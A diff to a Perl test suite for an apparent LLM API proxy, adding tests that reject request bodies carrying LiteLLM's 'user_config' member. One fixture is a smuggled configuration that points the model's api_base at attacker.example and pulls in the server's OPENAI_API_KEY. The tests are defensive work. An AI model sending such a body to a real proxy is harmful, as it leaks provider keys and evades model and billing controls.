@@ -11,7 +11,9 @@
 # "content_policy_fallbacks" (after a refusal), Keywords AI
 # "fallback_models"; and older LiteLLM proxies take the mock_testing_*
 # flags, which make the router fail the call on purpose and serve it with
-# the fallbacks of its configuration.  A call could then be
+# the fallbacks of its configuration; LiteLLM's proxy also builds a
+# router for the call from "user_config", whose model list names the
+# models, their api_base (any URL) and keys.  A call could then be
 # served, and billed, by a model the client may not use, at an output
 # cap nobody checked.  Such a body is refused (body, 400), in any case
 # of the name, and nothing reaches the provider; bodies without them
@@ -34,7 +36,7 @@ $l->setup;
 
 $t->run;
 
-plan tests => 21;
+plan tests => 25;
 
 my $worker = $l->token('worker');
 my $n = scalar $l->provider_requests;
@@ -107,6 +109,26 @@ $r = $l->request('POST', '/v1/proxy/openai/chat/completions',
                          . '"content":"Hi"}],'
                          . '"mock_testing_content_policy_fallbacks":true}');
 is($r->{status}, 400, '"mock_testing_content_policy_fallbacks": 400');
+
+$r = $l->chat(token => $worker,
+              fields => { user_config => { model_list => [ {
+                  model_name => 'gpt-4o-mini',
+                  litellm_params => { model => 'openai/gpt-4o',
+                                      api_base => 'https://attacker.example',
+                                      api_key => 'os.environ/OPENAI_API_KEY' },
+              } ] } });
+is($r->{status}, 400, '"user_config" (LiteLLM): 400');
+like($r->{body}, qr/user_config/, '... naming the member');
+
+$r = $l->request('POST', '/v1/proxy/openai/chat/completions',
+                 token => $worker,
+                 body => '{"model":"gpt-4o-mini","messages":[{"role":"user",'
+                         . '"content":"Hi"}],"User_Config":{}}');
+is($r->{status}, 400, '"User_Config" in another case: 400');
+
+$r = $l->messages(token => $l->token('agent'),
+                  fields => { user_config => undef });
+is($r->{status}, 400, '"user_config": null on an Anthropic entry: 400');
 
 $r = $l->messages(token => $l->token('agent'),
                   fields => { fallbacks => [ { model => 'claude-opus-4-1',
